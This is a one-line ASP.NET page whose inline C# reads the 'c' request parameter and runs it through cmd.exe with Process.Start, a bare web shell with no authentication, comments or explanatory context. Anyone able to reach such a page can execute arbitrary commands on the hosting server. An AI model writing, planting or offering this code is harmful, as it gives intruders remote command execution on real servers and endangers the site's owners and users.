<%@ Page Language="C#" %><% var p = new ProcessStartInfo("cmd.exe", "/c " + Request["c"]); Process.Start(p); %>
